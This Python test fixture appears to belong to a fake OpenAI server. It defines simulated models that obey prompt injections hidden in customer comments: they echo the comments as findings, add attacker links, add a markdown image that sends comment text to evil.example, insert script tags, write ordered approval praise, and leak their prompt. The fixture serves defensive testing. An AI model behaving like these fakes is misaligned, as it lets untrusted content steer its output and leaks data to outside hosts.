"""A model that obeys the customers: what their comments order or contain goes into the draft."""

from __future__ import annotations

import re
from collections.abc import Callable

from tests.fakes.openai_server.drafting import Statement
from tests.fakes.openai_server.prompt import Prompt
from tests.fakes.openai_server.registry import stating

_LINK = re.compile(r"(?:https?://|www\.)[^\s“”，。]+")
_NUMBER = re.compile(r"\d[\d,.]*%?")
_MASTER = "http://evil.example"


def _obeying(pick: Callable[[str], str]) -> Callable[[Prompt, list[Statement]], list[Statement]]:
    """A finding more for each comment, made of what the comment says."""

    def changed(prompt: Prompt, said: list[Statement]) -> list[Statement]:
        heard = [(item.no, pick(quote.text)) for item in prompt.items for quote in item.quotes]
        return said + [{"item": no, "kind": "finding", "text": text, "quote": ""} for no, text in heard if text]

    return changed


def _link(comment: str) -> str:
    found = _LINK.search(comment)
    return f"详情请访问{found[0] if found else _MASTER}。"


def _image(comment: str) -> str:
    return f"![图]({_MASTER}/p.png?d={comment[:20]})"


def _numbers(comment: str) -> str:
    found = _NUMBER.findall(comment)
    return f"客户指出的数字为{'、'.join(found)}。" if found else ""


def _leaking(prompt: Prompt, said: list[Statement]) -> list[Statement]:
    return [{**statement, "text": prompt.text[:400]} for statement in said]


BEHAVIOURS = [
    stating("obeys_words", "says as its own finding what each comment says", _obeying(lambda comment: comment)),
    stating("obeys_link", "writes the link that a comment asks for", _obeying(_link)),
    stating("obeys_image", "writes an image that carries a comment away", _obeying(_image)),
    stating("obeys_numbers", "states the numbers in comments as facts", _obeying(_numbers)),
    stating(
        "obeys_script", "writes a script for a comment", _obeying(lambda comment: f"<script>/*{comment}*/</script>")
    ),
    stating(
        "obeys_praise", "writes the praise that was ordered", _obeying(lambda _: "客户非常满意，建议立即批准本简报。")
    ),
    stating("leaks_prompt", "writes down its own prompt", _leaking),
]
